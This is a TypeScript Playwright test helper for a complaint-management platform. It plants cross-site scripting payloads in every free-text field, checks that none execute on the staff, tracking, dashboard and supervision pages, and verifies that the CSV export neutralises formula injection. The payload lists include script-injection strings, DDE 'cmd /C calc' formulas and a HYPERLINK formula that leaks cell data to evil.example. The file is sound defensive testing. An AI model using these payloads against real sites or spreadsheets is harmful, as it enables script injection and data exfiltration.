/**
 * Hostile text in every free-text field (rating comment, complaint description, the customer's
 * name, staff involved, staff notes, the decision and corrective action), rendered in Chromium on
 * every page that shows it: the staff complaint detail, the tracking page and the dashboard's low
 * ratings. A payload that ran would set `window.__xss` or open a dialog; neither may happen. And
 * the CSV export of the same ratings neutralises formula payloads (`=`, `+`, `-`, `@`, tab, CR).
 * Shared by `test/browser/output-safety.test.ts` and the reliability suite.
 */
import type { BrowserContext } from 'playwright-core';
import type { LocalPlatform } from '../../functions/local/platform.js';
import { fileComplaint } from './complaints.js';
import { keyFor, newSubmissionId, postJson } from './customer.js';
import { staffAs } from './staff.js';

export const XSS_PAYLOADS = [
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '<script>window.__xss=1;alert(2)</script>',
  '"><svg onload="window.__xss=1;alert(3)">',
  '\'><iframe srcdoc="<script>parent.__xss=1;parent.alert(4)</script>"></iframe>',
  '</textarea></title><img src=x onerror=window.__xss=1>',
  'javascript:window.__xss=1;alert(5)//',
  '<a href="javascript:window.__xss=1">x</a><details open ontoggle="window.__xss=1;alert(6)">',
  '{{constructor.constructor("window.__xss=1;alert(7)")()}}',
];

export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1\tcomment',
  '=cmd|"/C calc"!A0\r\n=2',
];

export interface RenderCheck {
  page: string;
  payload: string;
  ran: boolean;
  dialogs: number;
}

export interface OutputSafetyReport {
  renders: RenderCheck[];
  csvCells: number;
  unsafeCells: string[];
}

type Platform = { url: string; token(username: string): Promise<string> };

/** Files the hostile records, opens each page that shows them, and reads the CSV export. */
export async function checkOutputSafety(
  platform: LocalPlatform,
  newContext: (locale: string) => Promise<BrowserContext>,
  payloads = XSS_PAYLOADS,
): Promise<OutputSafetyReport> {
  const ctx: Platform = {
    url: platform.url,
    token: async (username) => {
      const r = await postJson(`${platform.url}/api/v1/local/token`, { username });
      return String(r.body.token);
    },
  };
  const k = await keyFor(platform, 'sh-jingan');
  const rate = (comment: string) =>
    postJson(`${platform.url}/api/v1/feedback`, {
      outletId: 'sh-jingan',
      k,
      submissionId: newSubmissionId(),
      rating: 1,
      comment,
    });
  const trackingNos: string[] = [];
  const ops = staffAs(ctx, 'operations.1');
  for (const payload of payloads) {
    await rate(payload);
    const { trackingNo } = await fileComplaint(platform, 'sh-jingan', {
      description: `${payload} 排队一个多小时`,
      contact: { name: payload.slice(0, 60), phone: '138 1234 5678' },
      staffInvolved: payload.slice(0, 100),
    });
    await ops.step(trackingNo, { type: 'note', text: payload });
    await ops.step(trackingNo, { type: 'accept' });
    await ops.step(trackingNo, {
      type: 'resolve',
      decision: payload,
      rootCause: 'process',
      correctiveAction: payload,
    });
    trackingNos.push(trackingNo);
  }
  for (const formula of FORMULA_PAYLOADS) await rate(formula);
  await postJson(`${platform.url}/api/v1/local/jobs/rollup-today`, {});

  const renders: RenderCheck[] = [];
  const visit = async (
    name: string,
    payload: string,
    locale: string,
    open: (page: import('playwright-core').Page) => Promise<void>,
  ) => {
    const context = await newContext(locale);
    const page = await context.newPage();
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      void dialog.dismiss();
    });
    await open(page);
    await page.waitForTimeout(300);
    const ran = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss !== undefined);
    renders.push({ page: name, payload, ran, dialogs });
    await context.close();
  };
  const signIn = async (page: import('playwright-core').Page, username: string, next: string) => {
    await page.goto(`${platform.url}/signin?next=${encodeURIComponent(next)}`);
    await page.locator(`button[data-username="${username}"]`).click();
  };

  for (const [i, trackingNo] of trackingNos.entries()) {
    const payload = payloads[i] ?? '';
    await visit('staff complaint detail', payload, 'zh-CN', async (page) => {
      await signIn(page, 'operations.1', `/staff#/complaints/${trackingNo}`);
      await page.locator('#detail h2', { hasText: trackingNo }).waitFor();
    });
    await visit('head office complaint detail', payload, 'en-US', async (page) => {
      await signIn(page, 'head-office', `/staff#/complaints/${trackingNo}`);
      await page.locator('#detail h2', { hasText: trackingNo }).waitFor();
    });
    await visit('tracking page', payload, 'en-US', async (page) => {
      await page.goto(`${platform.url}/t?no=${trackingNo}`);
      await page.getByLabel('Last four digits of your phone').fill('5678');
      await page.getByRole('button', { name: 'Check' }).click();
      await page.locator('#state').filter({ hasText: trackingNo }).waitFor();
    });
  }
  await visit('dashboard low ratings', payloads.join(' '), 'zh-CN', async (page) => {
    await signIn(page, 'head-office', '/dashboard');
    await page.waitForURL(/\/dashboard/);
    await page.locator('#low-list li').first().waitFor();
  });
  await visit('outlet inbox list', payloads.join(' '), 'zh-CN', async (page) => {
    await signIn(page, 'manager.sh-jingan', '/staff');
    await page.locator('#list tr[data-no]').first().waitFor();
  });

  await supervisionOutputSafety(platform.url, ctx, payloads, visit, signIn);

  const today = new Date().toLocaleDateString('sv-SE', { timeZone: 'Asia/Shanghai' });
  const response = await fetch(
    `${platform.url}/api/v1/stats/export/ratings?scope=outlet&id=sh-jingan&from=${today}&to=${today}&format=csv`,
    { headers: { authorization: `Bearer ${await ctx.token('head-office')}` } },
  );
  const cells = parseCsv(await response.text());
  const unsafeCells = cells.filter((c) => c.quoted && /^[=+\-@\t\r]/.test(c.value)).map((c) => c.value);
  const comments = cells.filter((c) => FORMULA_PAYLOADS.some((f) => c.value.includes(f.trim().slice(1, 12))));
  if (comments.length < FORMULA_PAYLOADS.length)
    unsafeCells.push(
      `only ${comments.length} of ${FORMULA_PAYLOADS.length} formula comments found in the export`,
    );
  return { renders, csvCells: cells.length, unsafeCells };
}

/** RFC 4180 cells, each with whether it was quoted (a text cell) or bare (a number, TRUE/FALSE). */
export function parseCsv(text: string): { value: string; quoted: boolean }[] {
  const cells: { value: string; quoted: boolean }[] = [];
  let i = text.startsWith('\uFEFF') ? 1 : 0;
  while (i < text.length) {
    let value = '';
    let quoted = false;
    if (text[i] === '"') {
      quoted = true;
      i++;
      while (i < text.length) {
        if (text[i] === '"' && text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (text[i] === '"') {
          i++;
          break;
        } else value += text[i++];
      }
    }
    while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') value += text[i++];
    cells.push({ value, quoted });
    if (text[i] === ',') i++;
    else while (text[i] === '\r' || text[i] === '\n') i++;
  }
  return cells;
}

type Visit = (
  name: string,
  payload: string,
  locale: string,
  open: (page: import('playwright-core').Page) => Promise<void>,
) => Promise<void>;

/**
 * Service supervision's free text: an admin publishes a checklist version whose first section's
 * title and items' names are the payloads, a spot check fails those items with the payloads as
 * notes, their tasks are answered and returned with payloads, a mystery visit is planned under a
 * payload pseudonym; then the circular of the month under way (the items failed most, by name), the
 * outlet manager's rectification page (the items, the finding notes, the answers and the return
 * reasons) and the capture page's checklist (section and item names) are rendered. No page shows
 * the pseudonym yet: it is stored here so a page that shows it later is checked by adding its visit.
 */
async function supervisionOutputSafety(
  url: string,
  ctx: Platform,
  payloads: readonly string[],
  visit: Visit,
  signIn: (page: import('playwright-core').Page, username: string, next: string) => Promise<void>,
) {
  const call = async (username: string, method: string, path: string, body: unknown) => {
    const response = await fetch(`${url}/api/v1${path}`, {
      method,
      headers: { 'content-type': 'application/json', authorization: `Bearer ${await ctx.token(username)}` },
      body: JSON.stringify(body),
    });
    const answer = (await response.json()) as Record<string, unknown>;
    if (response.status >= 300)
      throw new Error(`${method} ${path}: ${response.status} ${JSON.stringify(answer)}`);
    return answer;
  };
  type Item = {
    id: string;
    text: Record<string, string>;
    kind: { type: string; max?: number };
    photoOnFail: boolean;
  };
  type Section = { id: string; title: Record<string, string>; items: Item[] };
  const current = (await (
    await fetch(`${url}/api/v1/supervision/checklists/service`, {
      headers: { authorization: `Bearer ${await ctx.token('admin')}` },
    })
  ).json()) as { version: number; name: Record<string, string>; sections: Section[] };
  const all = (text: string) => ({ 'zh-CN': text, 'zh-TW': text, en: text });
  const hostile = new Map<string, string>();
  const sections = current.sections.map((section, s) => ({
    ...section,
    title: s === 0 ? all((payloads[0] ?? '').slice(0, 200)) : section.title,
    items: section.items.map((item) => {
      const payload = payloads[hostile.size];
      if (s !== 0 || payload === undefined || item.kind.type !== 'yes-no') return item;
      hostile.set(item.id, payload);
      return { ...item, text: all(payload.slice(0, 200)) };
    }),
  }));
  const published = await call('admin', 'PUT', '/supervision/checklists/service', {
    name: current.name,
    sections,
    expectedVersion: current.version,
  });
  const id = crypto.randomUUID();
  await call('inspector.1', 'POST', '/supervision/inspections', {
    id,
    kind: 'spot-check',
    outletId: 'sh-jingan',
    checklistId: 'service',
    checklistVersion: published.version,
    startedAt: new Date().toISOString(),
    answers: sections.flatMap((section) =>
      section.items.map((item) => {
        const payload = hostile.get(item.id);
        if (payload !== undefined)
          return {
            itemId: item.id,
            passed: false,
            note: payload.slice(0, 500),
            photo: `photos/inspections/${id}/a.jpg`,
          };
        if (item.kind.type === 'yes-no') return { itemId: item.id, passed: true };
        if (item.kind.type === 'score') return { itemId: item.id, mark: item.kind.max ?? 1 };
        return { itemId: item.id, value: 0 };
      }),
    ),
  });
  for (const [itemId, payload] of hostile) {
    const path = `/supervision/rectifications/${encodeURIComponent(`${id}.${itemId}`)}/actions`;
    await call('manager.sh-jingan', 'POST', path, { type: 'answer', note: payload, expectedVersion: 1 });
    await call('inspector.1', 'POST', path, { type: 'return', reason: payload, expectedVersion: 2 });
  }
  const deadline = new Date(Date.now() + 7 * 86_400_000).toISOString();
  for (const payload of payloads)
    await call('head-office', 'POST', '/supervision/mystery-visits', {
      outletId: 'sh-jingan',
      deadline,
      pseudonym: payload.slice(0, 40),
    });

  const month = new Date().toLocaleDateString('sv-SE', { timeZone: 'Asia/Shanghai' }).slice(0, 7);
  await visit('circular (items failed most)', [...hostile.values()].join(' '), 'zh-CN', async (page) => {
    await signIn(page, 'inspector.1', '/circular');
    await page.locator('#end-note:not([hidden])').waitFor();
    await page.locator('#month').selectOption(month);
    await page.locator('#items-table tbody tr').first().waitFor();
    await page.locator('#end-note:not([hidden])').waitFor();
  });
  await visit(
    'rectification page (items, finding notes, answers, return reasons)',
    [...hostile.values()].join(' '),
    'zh-CN',
    async (page) => {
      await signIn(page, 'manager.sh-jingan', '/rectify');
      await page.locator('#outlet-name').waitFor();
      await page.locator('[data-task]').first().waitFor();
    },
  );
  await visit('capture page checklist', [...hostile.values()].join(' '), 'zh-CN', async (page) => {
    await signIn(page, 'lobby.sh-jingan', '/inspect');
    await page.waitForURL(/\/inspect$/);
    await page.getByRole('button', { name: '开门巡检' }).click();
    await page.locator('#start').click();
    await page.locator('#running').waitFor();
  });
}
